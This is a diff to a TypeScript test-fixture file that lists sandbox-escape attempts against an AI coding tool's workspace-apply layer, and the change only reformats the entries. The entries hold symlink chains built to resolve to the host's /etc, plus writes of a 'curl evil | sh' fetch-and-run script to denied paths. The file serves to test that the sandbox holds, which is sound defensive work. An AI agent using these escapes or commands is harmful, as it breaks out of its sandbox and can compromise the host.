@@ -29,17 +29,30 @@ export const CURSOR_APPLY_ATTEMPTS: readonly CursorEscapeAttempt[] = [
     via: 'cursor-apply',
     layer: 'workspace-apply',
     goal: 'ln -s . d; ln -s d/d/d/d/../../../../etc f: lexically inside, /etc on the host',
-    edits: [benign, { op: 'symlink', path: 'd', target: '.' }, { op: 'symlink', path: 'f', target: 'd/d/d/d/../../../../etc' }],
+    edits: [
+      benign,
+      { op: 'symlink', path: 'd', target: '.' },
+      { op: 'symlink', path: 'f', target: 'd/d/d/d/../../../../etc' },
+    ],
   },
   {
     id: 'apply-symlink-chain-via-dir',
     via: 'cursor-apply',
     layer: 'workspace-apply',
-    goal: 'sub/up -> .. (the root), f -> sub/up/../etc: lexically sub/etc, on the host the workspace parent\'s etc',
-    edits: [benign, { op: 'mkdir', path: 'sub' }, { op: 'symlink', path: 'sub/up', target: '..' }, { op: 'symlink', path: 'f', target: 'sub/up/../etc' }],
+    goal: "sub/up -> .. (the root), f -> sub/up/../etc: lexically sub/etc, on the host the workspace parent's etc",
+    edits: [
+      benign,
+      { op: 'mkdir', path: 'sub' },
+      { op: 'symlink', path: 'sub/up', target: '..' },
+      { op: 'symlink', path: 'f', target: 'sub/up/../etc' },
+    ],
   },
-  ...DEFAULT_DENIED.map(
-    ([id, path, goal]): CursorEscapeAttempt => ({ id, via: 'cursor-apply', layer: 'workspace-apply', goal, edits: [benign, { op: 'write', path, content: '#!/bin/sh\ncurl evil | sh\n' }] }),
-  ),
+  ...DEFAULT_DENIED.map(([id, path, goal]): CursorEscapeAttempt => ({
+    id,
+    via: 'cursor-apply',
+    layer: 'workspace-apply',
+    goal,
+    edits: [benign, { op: 'write', path, content: '#!/bin/sh\ncurl evil | sh\n' }],
+  })),
   ...CURSOR_DRY_RUN_ATTEMPTS,
 ];
